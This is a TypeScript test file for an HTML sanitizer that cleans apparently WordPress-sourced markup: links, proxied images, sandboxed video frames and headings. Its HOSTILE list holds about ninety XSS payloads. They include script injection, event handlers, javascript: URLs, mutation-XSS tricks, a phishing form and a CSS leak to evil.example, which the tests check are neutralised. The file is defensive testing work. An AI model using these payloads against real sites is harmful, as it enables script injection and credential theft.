import { createRequire } from 'node:module';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createImageAddresses } from '../imageAddress.ts';
import { createHtml } from './html.ts';

const images = createImageAddresses({ secrets: ['s'.repeat(32)], origins: () => ['https://wp.example'] });
const html = createHtml({
  ownHosts: () => ['wp.example', 'labels.example'],
  images,
  embedHosts: ['www.youtube-nocookie.com', 'player.vimeo.com'],
});

/** What is used here of jsdom, which brings no types. */
interface Parsed {
  tagName: string;
  attributes: Iterable<{ name: string; value: string }>;
  matches(selector: string): boolean;
  hasAttribute(name: string): boolean;
  getAttribute(name: string): string | null;
  querySelector(selector: string): Parsed | null;
  querySelectorAll(selector: string): Parsed[];
}
const { JSDOM } = createRequire(import.meta.url)('jsdom') as { JSDOM: { fragment(html: string): Parsed } };

/** Parses as a browser does, so that what a browser would make of the output is judged. */
const parse = (text: string): Parsed => JSDOM.fragment(text);

const FORBIDDEN =
  'script, style, object, embed, link, meta, base, form, input, button, svg, math, template, video, audio';

/** Everything in the output that could act; empty when it is harmless. */
function dangers(text: string): string[] {
  const found: string[] = [];
  for (const element of parse(text).querySelectorAll('*')) {
    if (element.matches(FORBIDDEN)) found.push(element.tagName);
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^id$|^name$|^srcdoc$|^formaction$|^xlink|^background$|^ping$/i.test(name)) found.push(name);
      if (name === 'src' || name === 'srcset') {
        if (element.tagName !== 'IFRAME' && !value.startsWith('/_image/')) found.push(`${name}=${value}`);
        if (element.tagName === 'IFRAME' && !/^https:\/\/(www\.youtube-nocookie|player\.vimeo)\.com\//.test(value))
          found.push(`${name}=${value}`);
      }
      if (name === 'href' && !/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/.test(value)) found.push(`${name}=${value}`);
    }
    if (element.tagName === 'IFRAME' && !element.hasAttribute('sandbox')) found.push('unsandboxed');
  }
  return found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script/xss src="//evil.example"></script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=https://wp.example/a.png onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/track.gif">',
  '<img src="//evil.example/track.gif">',
  '<img srcset="https://evil.example/a.png 100w, javascript:alert(1) 200w">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://wp.example/a.png" style="background:url(javascript:alert(1))">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://wp.example/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://wp.example@evil.example/">x</a>',
  '<a href="https://user:pass@wp.example/">x</a>',
  '<a href="https://wp.example//evil.example/">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="/x" ping="https://evil.example">x</a>',
  '<a id="config" name="config" href="/x">clobber</a>',
  '<p onmouseover="alert(1)" style="position:fixed;inset:0">x</p>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="https://player.vimeo.com.evil.example/"></iframe>',
  '<iframe src="https://player.vimeo.com@evil.example/"></iframe>',
  '<iframe src="http://player.vimeo.com/video/1"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://player.vimeo.com/video/1" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe>',
  '<iframe src="https://player.vimeo.com/video/1"></iframe/><script>alert(1)</script></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x">x</applet>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/?leak)}</style>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)" src="https://evil.example/x.mp4"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>x',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<img alt="\'><script>alert(1)</script>" src="https://wp.example/a.png">',
  '<img alt="&quot; onload=&quot;alert(1)" src="https://wp.example/a.png">',
  '<abbr title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr>',
  '<div class="table-scroll evil" data-x="1">x</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('hostile content', () => {
  it('is what the judge of these tests takes it for', () => {
    expect(HOSTILE.length).toBeGreaterThan(60);
    expect(HOSTILE.filter(snippet => dangers(snippet).length > 0).length).toBeGreaterThan(55);
  });

  it.each(HOSTILE)('ends harmless: %s', snippet => {
    expect(dangers(html(snippet))).toEqual([]);
    expect(dangers(html(`<p>before ${snippet} after</p>`))).toEqual([]);
    expect(dangers(html(`<table><tr><td>${snippet}`))).toEqual([]);
  });

  it('stays harmless when two snippets are put together', () => {
    const piece = fc.oneof(fc.constantFrom(...HOSTILE), fc.string(), fc.constantFrom('<p>', '</p>', '">', "'>", '-->'));
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 5 }), pieces => {
        expect(dangers(html(pieces.join('')))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('never has an active tag, handler or script address, whatever markup it is made of', () => {
    const text = fc.string({ unit: fc.constantFrom(...'<>"\'=/ &;:!-axon\n\0', 'script', 'on', 'src', 'href', 'svg') });
    fc.assert(
      fc.property(text, raw => {
        expect(dangers(html(raw))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  it('does not take long', () => {
    const started = performance.now();
    for (const bomb of [
      '<div>',
      '<p>',
      '<iframe>',
      '<table>',
      '<noscript>',
      '<a href="x">',
      '<p> ',
      '<',
      '&lt;',
      '<!--',
    ])
      html(bomb.repeat(50_000));
    expect(performance.now() - started).toBeLessThan(6_000);
    expect(parse(html('<div>'.repeat(500))).querySelectorAll('div').length).toBeLessThanOrEqual(40);
  });
});

describe('a text without markup', () => {
  it('is returned as it is', () => {
    expect(html('Ø 25 mm > 10 mm, "void"')).toBe('Ø 25 mm > 10 mm, "void"');
    expect(html('')).toBe('');
  });
});

describe('a link', () => {
  it.each([
    ['https://wp.example/about/', '/about'],
    ['http://wp.example/about/?a=1#team', '/about?a=1#team'],
    ['//labels.example/product/void/', '/product/void'],
    ['https://wp.example', '/'],
    ['/blog/', '/blog'],
    ['?p=12', '/?p=12'],
    ['#top', '#top'],
    ['https://wp.example/caf%C3%A9/', '/caf%C3%A9'],
    ['mailto:a@b.example', 'mailto:a@b.example'],
    ['tel:+27821234567', 'tel:+27821234567'],
  ])('to %s is written %s', (from, to) => {
    expect(html(`<a href="${from}">x</a>`)).toBe(`<a href="${to}">x</a>`);
  });

  it('to another site keeps that site away from this window', () => {
    expect(html('<a href="https://icasa.example/rules/" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://icasa.example/rules/" rel="noopener" target="_blank">x</a>',
    );
  });
});

describe('a picture', () => {
  const only = (text: string) => parse(html(text)).querySelector('img')!;

  it('comes by way of the gateway, lazily, with its size and a description', () => {
    const img = only('<img src="https://wp.example/u/a.png" width="1000" height="500">');
    expect(img.getAttribute('src')).toMatch(/^\/_image\/.+\/800\.webp\?src=\/u\/a\.png$/);
    expect(img.getAttribute('srcset')).toContain(' 1600w');
    expect(img.getAttribute('width')).toBe('1000');
    expect(img.getAttribute('height')).toBe('500');
    expect(img.getAttribute('alt')).toBe('');
    expect(img.getAttribute('loading')).toBe('lazy');
    expect(img.getAttribute('decoding')).toBe('async');
  });

  it('keeps its description and takes the largest rendition the service lists', () => {
    const img = only(
      '<img src="https://wp.example/u/a-300x200.png" alt="A roll" srcset="https://wp.example/u/a-300x200.png 300w, https://wp.example/u/a.png 1000w">',
    );
    expect(img.getAttribute('alt')).toBe('A roll');
    expect(img.getAttribute('src')).toContain('?src=/u/a.png');
    expect(img.getAttribute('srcset')).toMatch(/ 800w, [^ ]+ 1000w$/);
  });

  it('that a plug-in made lazy is found', () => {
    const img = only('<img src="data:image/gif;base64,R0" data-src="https://wp.example/u/a-300x200.png">');
    expect(img.getAttribute('srcset')).toMatch(/160w, [^ ]+ 300w$/);
  });

  it('from elsewhere is left out', () => {
    expect(html('<p>a<img src="https://evil.example/a.png">b</p>')).toBe('<p>ab</p>');
  });
});

describe('a frame', () => {
  it('of a named host is sandboxed, lazy and named', () => {
    const frame = parse(html('<iframe src="//player.vimeo.com/video/1" width="640" height="360"></iframe>'));
    const { attributes } = frame.querySelector('iframe')!;
    expect(Object.fromEntries([...attributes].map(a => [a.name, a.value]))).toMatchObject({
      src: 'https://player.vimeo.com/video/1',
      title: 'Video',
      loading: 'lazy',
      sandbox: expect.stringContaining('allow-scripts'),
    });
  });
});

describe('headings', () => {
  const levels = (text: string) => [...parse(html(text)).querySelectorAll('*')].map(h => h.tagName).join(' ');

  it.each([
    ['<h1>a</h1>', 'H2'],
    ['<h2>a</h2><h3>b</h3>', 'H2 H3'],
    ['<h2>a</h2><h5>b</h5><h6>c</h6>', 'H2 H3 H4'],
    ['<h4>a</h4><h4>b</h4><h4>c</h4>', 'H2 H2 H2'],
    ['<h2>a</h2><h4>b</h4><h3>c</h3><h2>d</h2>', 'H2 H3 H3 H2'],
    ['<h3>a</h3><h1>b</h1><h2>c</h2>', 'H2 H2 H2'],
  ])('%s become %s', (from, to) => {
    expect(levels(from)).toBe(to);
  });

  it('close as they were opened', () => {
    expect(html('<h1>a <em>b</em></h1><p>c</p>')).toBe('<h2>a <em>b</em></h2><p>c</p>');
  });
});

describe('the rest of a text', () => {
  it('keeps the class names of blocks and no others', () => {
    expect(html('<figure class="wp-block-image size-large evil alignleft" id="x">a</figure>')).toBe(
      '<figure class="wp-block-image size-large alignleft">a</figure>',
    );
  });

  it('has its tables in a scroller that a keyboard reaches', () => {
    expect(html('<table class="has-fixed-layout"><tbody><tr><td>1</td></tr></tbody></table>')).toBe(
      '<div class="table-scroll" role="region" tabindex="0" aria-label="Table"><table class="has-fixed-layout"><tbody><tr><td>1</td></tr></tbody></table></div>',
    );
  });

  it('has no empty paragraphs', () => {
    expect(html('<p>&nbsp;</p><p>a</p><p class="wp-x"> <br/> </p><p><a href="/x"></a></p>')).toBe(
      '<p>a</p><p><a href="/x"></a></p>',
    );
  });

  it('keeps entities as text and blocks as blocks', () => {
    expect(html('<section>1 &lt; 2 &amp; 3</section><section>b</section>')).toBe(
      '<div>1 &lt; 2 &amp; 3</div><div>b</div>',
    );
    expect(html('Nuts &amp; bolts')).toBe('Nuts &amp; bolts');
  });

  it('is worked on once', () => {
    const raw = `<p>${'<b>x</b>'.repeat(20_000)}</p>`;
    const time = () => {
      const started = performance.now();
      html(raw);
      return performance.now() - started;
    };
    const first = time();
    expect(time()).toBeLessThan(first / 2);
  });
});
